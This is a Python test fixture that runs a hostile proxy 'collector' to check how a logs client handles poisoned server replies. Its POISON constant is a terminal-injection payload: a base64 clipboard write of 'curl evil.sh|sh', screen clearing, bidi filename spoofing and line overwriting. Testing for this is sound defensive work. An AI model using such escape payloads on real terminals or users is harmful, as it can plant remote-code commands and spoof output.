# SPDX-License-Identifier: GPL-3.0-only
"""A collector that has been taken over: it passes calls on to a real one, and puts a poison into what that says."""

from __future__ import annotations

import json
import ssl
import threading
import urllib.parse
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from .client import Client
from .stacks import RunningStack

POISON = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[2J\x1b[32mOK\x1b[0m\x9b31m\u202egpj.exe\u2066\u2028\x08\x7f\r"
"""Fills a clipboard, clears the screen, colours, turns the direction of writing and writes over the line."""
_PARSED = ("cursor", "version", "state", "State", "LastArrival", "FirstArrival", "quietSince", "QuietSince", "level")
"""What a command cannot do its work without."""


class Poison:
    """What is done to replies.

    Attributes:
        all: Whether also what commands have to understand is poisoned.
        error: Not 0: each call is refused with a poisoned sentence and this number.
    """

    def __init__(self) -> None:
        self.all = False
        self.error = 0

    def into(self, reply: Any) -> Any:
        if self.error and isinstance(reply, dict) and "OK" in reply:
            return {"OK": False, "Errno": self.error, "Message": f"refused {POISON}\ndirac-pilot-logs-show: OK"}
        return self._put(reply)

    def _put(self, value: Any, name: str = "") -> Any:
        if isinstance(value, str) and (self.all or name not in _PARSED):
            return f"{value[:8]}{POISON}{value[8:]}"
        if isinstance(value, dict):
            return {key: self._put(each, key) for key, each in value.items()}
        if isinstance(value, list):
            return [self._put(each, name) for each in value]
        return value


@contextmanager
def hostile_collector(stack: RunningStack, poison: Poison) -> Iterator[str]:
    """The URL of such a collector, with the stack's host certificate; it asks the real one as an operator."""
    real = stack.client("operator")
    lock = threading.Lock()

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["Content-Length"]))
            with lock:
                content = json.dumps(poison.into(_passed_on(real, body))).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_: Any) -> None:
            pass

    host = stack.layout.credentials / "host"
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(host / "hostcert.pem", host / "hostkey.pem")
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        url = urllib.parse.urlsplit(stack.urls[0])
        yield f"https://{url.hostname}:{server.server_port}{url.path}"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def _passed_on(real: Client, body: bytes) -> Any:
    """The poison comes back in what was said before, such as a stamp: the real collector is asked without it."""
    fields = dict(urllib.parse.parse_qsl(body.decode()))
    fields["args"] = json.dumps(_without(json.loads(fields["args"])))
    return dict(real.post(urllib.parse.urlencode(fields).encode()))


def _without(value: Any) -> Any:
    if isinstance(value, str):
        return value.replace(POISON, "")
    if isinstance(value, dict):
        return {key: _without(each) for key, each in value.items()}
    return [_without(each) for each in value] if isinstance(value, list) else value
